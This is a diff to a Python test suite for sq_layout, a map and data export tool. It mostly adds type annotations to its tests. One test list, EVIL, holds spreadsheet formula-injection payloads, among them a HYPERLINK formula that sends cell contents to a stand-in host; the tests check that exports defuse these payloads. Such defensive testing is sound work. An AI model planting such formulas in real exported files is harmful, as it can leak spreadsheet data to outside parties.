@@ -14,6 +14,7 @@ import zipfile
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from typing import NoReturn
 
 import openpyxl
 import pandas as pd
@@ -21,17 +22,19 @@ import pytest
 
 from sq_layout.analysis.queries import Selection
 from sq_layout.atomic import write_bytes
+from sq_layout.cells import neutralise
 from sq_layout.cli import COMMANDS, main
 from sq_layout.errors import DataError, OutputNotWritable, UnknownValue
-from sq_layout.export.dataexport import GPKG_VERSION, csv_zip, export_bytes, neutralise, neutralise_cell, xlsx
+from sq_layout.export.dataexport import GPKG_VERSION, csv_zip, export_bytes, neutralise_cell, xlsx
 from sq_layout.export.registry import FORMATS, for_path, mime
+from sq_layout.plan.dataset import Dataset
 from sq_layout.plan.names import resolve, resolve_chain
 from tests.waiting import wait_for
 
 ROOT = Path(__file__).resolve().parents[2]
 
 
-def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
+def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
     code = main(list(argv))
     out, err = capsys.readouterr()
     return code, out, err
@@ -56,18 +59,18 @@ def listing(folder: Path) -> list[str]:
         ("tiers", "主导产业", "dominant"),
     ],
 )
-def test_names_accepted_in_chinese_english_or_by_id(ds, kind, typed, expected):
+def test_names_accepted_in_chinese_english_or_by_id(ds: Dataset, kind: str, typed: str, expected: str) -> None:
     assert resolve(ds, kind, typed) == expected
 
 
-def test_unknown_name_lists_choices_and_a_close_match(ds):
+def test_unknown_name_lists_choices_and_a_close_match(ds: Dataset) -> None:
     with pytest.raises(UnknownValue) as exc:
         resolve_chain(ds, "晶硅光扶")
     msg = str(exc.value)
     assert "did you mean '晶硅光伏'" in msg and "3=晶硅光伏" in msg and "20=大数据+" in msg
 
 
-def test_list_prints_every_name(ds, capsys):
+def test_list_prints_every_name(ds: Dataset, capsys: pytest.CaptureFixture[str]) -> None:
     code, out, _ = run_cli(capsys, "list", "areas")
     assert code == 0
     rows = [line.split("\t") for line in out.splitlines()]
@@ -76,7 +79,7 @@ def test_list_prints_every_name(ds, capsys):
     assert len(out.splitlines()) == 20 and out.startswith("1\t化学纤维")
 
 
-def test_help_names_the_accepted_spellings(capsys):
+def test_help_names_the_accepted_spellings(capsys: pytest.CaptureFixture[str]) -> None:
     with pytest.raises(SystemExit):
         main(["data", "--help"])
     out = capsys.readouterr().out
@@ -108,7 +111,9 @@ def test_help_names_the_accepted_spellings(capsys):
         (["data", "--chain", "3", "--table", "nope", "-o", "{d}/x.csv"], "unknown table 'nope'"),
     ],
 )
-def test_user_mistakes_end_with_one_line_and_exit_2_writing_nothing(capsys, tmp_path, argv, message):
+def test_user_mistakes_end_with_one_line_and_exit_2_writing_nothing(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, argv: list[str], message: str
+) -> None:
     (tmp_path / "keep.docx").write_bytes(b"thesis")
     code, _, err = run_cli(capsys, *[a.format(d=tmp_path) for a in argv])
     assert code == 2
@@ -117,13 +122,13 @@ def test_user_mistakes_end_with_one_line_and_exit_2_writing_nothing(capsys, tmp_
     assert listing(tmp_path) == ["keep.docx"]
 
 
-def test_output_naming_a_folder_is_refused(capsys, tmp_path):
+def test_output_naming_a_folder_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     (tmp_path / "x.xlsx").mkdir()
     code, _, err = run_cli(capsys, "data", "--chain", "3", "-o", str(tmp_path / "x.xlsx"))
     assert code == 2 and "a folder of that name exists" in err and listing(tmp_path / "x.xlsx") == []
 
 
-def test_output_under_a_file_is_refused(capsys, tmp_path):
+def test_output_under_a_file_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     (tmp_path / "afile").write_text("x")
     code, _, err = run_cli(capsys, "data", "--chain", "3", "-o", str(tmp_path / "afile" / "x.xlsx"))
     assert code == 2 and "is not a folder" in err
@@ -143,7 +148,7 @@ def not_root() -> Iterator[None]:
         os.setresuid(0, 0, 0)
 
 
-def test_read_only_folder_is_refused(capsys, tmp_path):
+def test_read_only_folder_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     ro = tmp_path / "ro"
     ro.mkdir(mode=0o555)
     with not_root():
@@ -151,8 +156,8 @@ def test_read_only_folder_is_refused(capsys, tmp_path):
     assert code == 2 and "is not writable" in err and listing(ro) == []
 
 
-def test_bugs_keep_their_traceback(monkeypatch, tmp_path):
-    def broken(a):
+def test_bugs_keep_their_traceback(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    def broken(a: object) -> NoReturn:
         raise KeyError("a bug")
 
     monkeypatch.setattr(COMMANDS[0], "run", broken)
@@ -172,7 +177,7 @@ def test_bugs_keep_their_traceback(monkeypatch, tmp_path):
     assert result.returncode == 1 and "Traceback" in result.stderr and "KeyError" in result.stderr
 
 
-def test_names_typed_in_chinese_export_a_map(capsys, tmp_path):
+def test_names_typed_in_chinese_export_a_map(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     code, _, err = run_cli(
         capsys, "export", "--chain", "晶硅光伏", "--area", "泗洪县", "--dpi", "40", "-o", str(tmp_path / "pv.png")
     )
@@ -183,13 +188,13 @@ def test_names_typed_in_chinese_export_a_map(capsys, tmp_path):
 # --- formats ---------------------------------------------------------------------------------------
 
 
-def test_registry_is_the_one_list_of_formats():
+def test_registry_is_the_one_list_of_formats() -> None:
     assert for_path("x.CSV", "data").id == "csv" and for_path("a/b.gpkg", "data").id == "gpkg"
     assert mime("sq.xlsx").endswith("spreadsheetml.sheet") and mime("m.svg") == "image/svg+xml"
     assert len({f.suffix for f in FORMATS}) == len(FORMATS)
 
 
-def test_csv_writes_one_table_as_csv_not_a_zip(capsys, tmp_path):
+def test_csv_writes_one_table_as_csv_not_a_zip(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     target = tmp_path / "hosts.csv"
     code, _, err = run_cli(capsys, "data", "--chain", "晶硅光伏", "--table", "hosts", "-o", str(target))
     assert code == 0, err
@@ -201,21 +206,21 @@ def test_csv_writes_one_table_as_csv_not_a_zip(capsys, tmp_path):
 EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain", "-"]
 
 
-def test_formula_cells_are_neutralised():
+def test_formula_cells_are_neutralised() -> None:
     df = pd.DataFrame({"name": EVIL, "n": range(len(EVIL))})
     out = neutralise(df)
     assert list(out["name"][:5]) == ["'" + v for v in EVIL[:5]] and out["name"][5] == "plain"
     assert list(out["n"]) == list(range(len(EVIL)))  # numbers stay numbers
 
 
-def test_one_cell_rule_covers_tab_and_carriage_return():
+def test_one_cell_rule_covers_tab_and_carriage_return() -> None:
     evil = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
     assert [neutralise_cell(v) for v in evil] == ["'" + v for v in evil]
     assert [neutralise_cell(v) for v in ("plain", "a=b", "", 5, -1.5, None)] == ["plain", "a=b", "", 5, -1.5, None]
 
 
 @pytest.fixture
-def evil_ds(ds):
+def evil_ds(ds: Dataset) -> Dataset:
     from dataclasses import replace
 
     areas = ds.areas.copy()
@@ -223,19 +228,19 @@ def evil_ds(ds):
     return replace(ds, areas=areas)
 
 
-def test_csv_zip_has_no_live_formula(evil_ds):
+def test_csv_zip_has_no_live_formula(evil_ds: Dataset) -> None:
     z = zipfile.ZipFile(io.BytesIO(export_bytes("zip", evil_ds, Selection(), None, "zh", whole=True)))
     text = z.read("地区.csv").decode("utf-8-sig")
     assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
 
 
-def test_single_csv_has_no_live_formula(evil_ds):
+def test_single_csv_has_no_live_formula(evil_ds: Dataset) -> None:
     raw = export_bytes("csv", evil_ds, Selection(), None, "zh", whole=False)
     frame = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
     assert frame["名称"].str.startswith("'=HYPERLINK").any()
 
 
-def test_xlsx_has_no_formula_cell(evil_ds):
+def test_xlsx_has_no_formula_cell(evil_ds: Dataset) -> None:
     wb = openpyxl.load_workbook(io.BytesIO(export_bytes("xlsx", evil_ds, Selection(), None, "zh", whole=True)))
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
@@ -246,7 +251,7 @@ def test_xlsx_has_no_formula_cell(evil_ds):
     assert csv_zip({"t": pd.DataFrame({"x": ["@x"]})}, "zh")
 
 
-def test_geopackage_is_version_1_2_and_gdal_opens_it_without_warning(ds, tmp_path):
+def test_geopackage_is_version_1_2_and_gdal_opens_it_without_warning(ds: Dataset, tmp_path: Path) -> None:
     path = write_bytes(tmp_path / "x.gpkg", export_bytes("gpkg", ds, Selection(chains=(3,)), "sihong", "zh", False))
     with sqlite3.connect(path) as con:
         major, minor = map(int, GPKG_VERSION.split("."))
@@ -261,7 +266,7 @@ def test_geopackage_is_version_1_2_and_gdal_opens_it_without_warning(ds, tmp_pat
 # --- atomic writes -------------------------------------------------------------------------------
 
 
-def test_failed_write_keeps_the_previous_file_and_leaves_nothing(tmp_path):
+def test_failed_write_keeps_the_previous_file_and_leaves_nothing(tmp_path: Path) -> None:
     target = write_bytes(tmp_path / "map.png", b"good")
     from sq_layout.atomic import atomic_path
 
@@ -289,7 +294,7 @@ def partial_files(folder: Path) -> list[Path]:
 
 
 @pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
-def test_signal_while_writing_keeps_the_previous_file_and_leaves_nothing(tmp_path, sig):
+def test_signal_while_writing_keeps_the_previous_file_and_leaves_nothing(tmp_path: Path, sig: signal.Signals) -> None:
     target = tmp_path / "pv.png"
     target.write_bytes(b"previous good map")
     proc = subprocess.Popen(
@@ -311,7 +316,7 @@ def rendering(proc: subprocess.Popen[bytes]) -> bool:
 
 
 @pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
-def test_interrupted_export_keeps_the_previous_file(tmp_path, sig):
+def test_interrupted_export_keeps_the_previous_file(tmp_path: Path, sig: signal.Signals) -> None:
     target = tmp_path / "pv.png"
     target.write_bytes(b"previous good map")
     proc = subprocess.Popen(
@@ -327,7 +332,9 @@ def test_interrupted_export_keeps_the_previous_file(tmp_path, sig):
     assert listing(tmp_path) == ["pv.png"]
 
 
-def test_audit_workbook_has_readable_unique_headers_names_and_rounded_figures(capsys, tmp_path):
+def test_audit_workbook_has_readable_unique_headers_names_and_rounded_figures(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
     target = tmp_path / "audit.xlsx"
     code, _, err = run_cli(capsys, "audit", "--lang", "en", "--xlsx", str(target))
     assert code == 0, err
@@ -346,7 +353,7 @@ def test_audit_workbook_has_readable_unique_headers_names_and_rounded_figures(ca
     assert sim["A2"].value == "Shuyang County" and sim["C2"].value == 0.55
 
 
-def test_app_shows_a_data_error_as_a_message(monkeypatch):
+def test_app_shows_a_data_error_as_a_message(monkeypatch: pytest.MonkeyPatch) -> None:
     import streamlit as st
     from streamlit.testing.v1 import AppTest
 
